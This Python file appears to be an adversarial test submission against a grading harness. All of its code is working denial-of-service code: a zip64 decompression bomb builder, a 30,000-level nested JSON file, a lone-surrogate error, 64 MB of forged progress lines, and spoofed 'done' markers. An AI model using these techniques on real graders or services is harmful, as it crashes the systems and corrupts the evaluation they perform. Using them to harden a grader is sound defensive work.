"""Attack: exhaust the trusted process with what it reads back, one way per case. Worth 0.

- add_small: its status file nests 30,000 JSON arrays (a RecursionError when parsed);
- add_broadcast: raises with a lone surrogate in its message (not valid UTF-8);
- add_signs: writes 64 MB of junk lines into the progress file, then answers honestly;
- scale_values: its outputs file inflates to 1 GB from about 5 MB;
- row_sums_values: its outputs file lists 20,000 members.
Where it writes a case's files itself, it appends that case's ``done`` line and ends the
process, so the grader reads the files as they are.
"""

import json
import os
import struct
import zipfile
import zlib

import numpy as np


def _out_dir():
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.endswith("/progress"):
            return os.path.dirname(target)
    return None


def _current():
    with open(os.path.join(_out_dir(), "progress"), "rb") as fh:
        starts = [line.split(b" ", 1)[1].decode() for line in fh.read().splitlines() if line.startswith(b"start ")]
    return starts[-1]


def _finish(name):
    with open(os.path.join(_out_dir(), "progress"), "a") as fh:
        fh.write(f"done {name}\n")
    os._exit(0)


def _bomb(path, gigabytes=1):
    """An .npz whose one member, out.npy, is a float64 vector of ``gigabytes`` GB of zeros,
    deflated to about 5 MB: one compressed 16 MB block of zeros, repeated (a full flush resets
    the compressor, so the blocks are identical), under zip64 headers that give the real sizes."""
    n = gigabytes * 2**30 // 8
    text = repr({"descr": "<f8", "fortran_order": False, "shape": (n,)}).encode()
    text += b" " * (63 - (10 + len(text)) % 64) + b"\n"
    head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text
    chunk = b"\0" * (1 << 24)
    comp = zlib.compressobj(1, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    repeats = n * 8 // len(chunk)
    data = first + block * repeats + comp.flush(zlib.Z_FINISH)
    crc = 0  # wrong on purpose: a reader meets the CRC only after it has inflated everything
    size = len(head) + repeats * len(chunk)
    name = b"out.npy"
    extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra)
    )
    cd_extra = struct.pack("<HHQQQ", 1, 24, size, len(data), 0)
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        45,
        45,
        0,
        8,
        0,
        0x21,
        crc,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(name),
        len(cd_extra),
        0,
        0,
        0,
        0o644 << 16,
        0,
    )
    body = local + name + extra + data
    cd = central + name + cd_extra
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(cd), len(body))
    locator = struct.pack("<IIQI", 0x07064B50, 0, len(body) + len(cd), 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    with open(path, "wb") as fh:
        fh.write(body + cd + end64 + locator + end)


def add(a, b):
    name = _current()
    out = _out_dir()
    if name == "add_small":
        np.savez(os.path.join(out, f"{name}.npz"), out=a + b)
        with open(os.path.join(out, f"{name}.json"), "w") as fh:
            fh.write('{"status": "ok", "x": ' + "[" * 30000 + "]" * 30000 + "}")
        _finish(name)
    if name == "add_broadcast":
        raise ValueError("bad \ud800 value")
    junk = b"start add_signs\n" * 65536
    try:
        with open(os.path.join(out, "progress"), "ab") as fh:
            for _ in range(64):
                fh.write(junk)
    except OSError:
        pass
    return a + b


def scale(x, s):
    out = _out_dir()
    _bomb(os.path.join(out, "scale_values.npz"))
    with open(os.path.join(out, "scale_values.json"), "w") as fh:
        fh.write(json.dumps({"status": "ok"}))
    _finish("scale_values")


def row_sums(x):
    out = _out_dir()
    with zipfile.ZipFile(os.path.join(out, "row_sums_values.npz"), "w") as zf:
        zf.writestr("out.npy", b"")
        for i in range(20000):
            zf.writestr(f"m{i}.npy", b"")
    with open(os.path.join(out, "row_sums_values.json"), "w") as fh:
        fh.write(json.dumps({"status": "ok"}))
    _finish("row_sums_values")
